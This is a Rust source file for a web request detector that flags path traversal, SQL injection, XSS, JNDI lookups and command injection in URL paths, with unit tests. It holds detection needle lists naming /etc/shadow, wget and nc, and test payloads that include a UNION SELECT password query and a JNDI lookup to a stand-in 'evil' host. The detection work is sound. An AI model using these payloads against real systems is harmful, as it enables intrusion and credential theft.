//! Attack patterns in request paths: SQL, script and command injection, JNDI lookups and path
//! traversal. The path (with its query, where the span carries one) is percent-decoded up to twice,
//! lower-cased and stripped of SQL comments before matching, so `%2e%2e%2f` and `UNION/**/SELECT`
//! are found. Only the pattern's *name* leaves this module: never the matched text.

use crate::anomaly::Subtype;
use percent_encoding::percent_decode_str;

/// A pattern: its name for descriptions, what it signals, and the lower-case needles.
struct Pattern {
    name: &'static str,
    subtype: Subtype,
    needles: &'static [&'static str],
}

const PATTERNS: &[Pattern] = &[
    Pattern {
        name: "path traversal (../)",
        subtype: Subtype::PathTraversal,
        needles: &["../", "..\\", "/..;/"],
    },
    Pattern {
        name: "system file access (/etc/passwd, win.ini)",
        subtype: Subtype::PathTraversal,
        needles: &[
            "/etc/passwd",
            "/etc/shadow",
            "/proc/self/",
            "win.ini",
            "boot.ini",
        ],
    },
    Pattern {
        name: "SQL injection (tautology)",
        subtype: Subtype::InjectionAttempt,
        needles: &[
            "' or '1'='1",
            "' or 1=1",
            "\" or 1=1",
            " or 1=1--",
            "' or ''='",
            "or 1=1#",
        ],
    },
    Pattern {
        name: "SQL injection (UNION SELECT)",
        subtype: Subtype::InjectionAttempt,
        needles: &["union select", "union all select"],
    },
    Pattern {
        name: "SQL injection (stacked or timed query)",
        subtype: Subtype::InjectionAttempt,
        needles: &[
            "; drop table",
            ";drop table",
            "sleep(",
            "benchmark(",
            "waitfor delay",
            "pg_sleep(",
            "information_schema",
        ],
    },
    Pattern {
        name: "script injection (XSS)",
        subtype: Subtype::InjectionAttempt,
        needles: &[
            "<script",
            "javascript:",
            "onerror=",
            "onload=",
            "<svg",
            "<iframe",
        ],
    },
    Pattern {
        name: "JNDI lookup (Log4Shell)",
        subtype: Subtype::InjectionAttempt,
        needles: &["${jndi:", "${env:", "${lower:"],
    },
    Pattern {
        name: "command injection",
        subtype: Subtype::InjectionAttempt,
        needles: &[
            ";cat ",
            "; cat ",
            "|cat ",
            "$(",
            "`id`",
            "&& whoami",
            ";wget ",
            "|nc ",
            "; nc ",
        ],
    },
];

/// The first pattern found in `path`, as (subtype, pattern name).
pub fn find(path: &str) -> Option<(Subtype, &'static str)> {
    // Fast exit: every needle holds one of these characters or words.
    if !path.bytes().any(|b| {
        matches!(
            b,
            b'.' | b'%'
                | b'\''
                | b'"'
                | b'<'
                | b'$'
                | b';'
                | b'`'
                | b'|'
                | b'&'
                | b'('
                | b'+'
                | b' '
                | b'\\'
        )
    }) && !path.contains("/etc/")
        && !path.contains("/proc/")
    {
        return None;
    }
    let normalized = normalize(path);
    PATTERNS.iter().find_map(|p| {
        p.needles
            .iter()
            .any(|n| normalized.contains(n))
            .then_some((p.subtype, p.name))
    })
}

fn normalize(path: &str) -> String {
    let once = percent_decode_str(path).decode_utf8_lossy();
    let twice = percent_decode_str(&once).decode_utf8_lossy().into_owned();
    let mut s = twice.to_lowercase().replace('+', " ").replace("/**/", " ");
    while s.contains("  ") {
        s = s.replace("  ", " ");
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_encoded_and_obfuscated_attacks() {
        let cases = [
            ("/static/..%2f..%2fetc/passwd", Subtype::PathTraversal),
            ("/files/%252e%252e%252fsecret", Subtype::PathTraversal),
            (
                "/api/products?id=1'%20OR%201=1--",
                Subtype::InjectionAttempt,
            ),
            (
                "/search?q=x%27+UNION/**/SELECT+password+FROM+users",
                Subtype::InjectionAttempt,
            ),
            (
                "/q?x=%3Cscript%3Ealert(1)%3C/script%3E",
                Subtype::InjectionAttempt,
            ),
            ("/login?u=${jndi:ldap://evil/a}", Subtype::InjectionAttempt),
        ];
        for (path, subtype) in cases {
            assert_eq!(find(path).map(|f| f.0), Some(subtype), "{path}");
        }
    }

    #[test]
    fn ordinary_paths_are_clean() {
        for path in [
            "/api/products/42",
            "/api/search?q=red+shoes&page=2",
            "/static/app.9f8e.js",
            "/api/users/me",
            "/api/orders?since=2026-01-01T00:00:00Z",
            "/v1.2/catalog/items.json",
        ] {
            assert_eq!(find(path), None, "{path}");
        }
    }
}
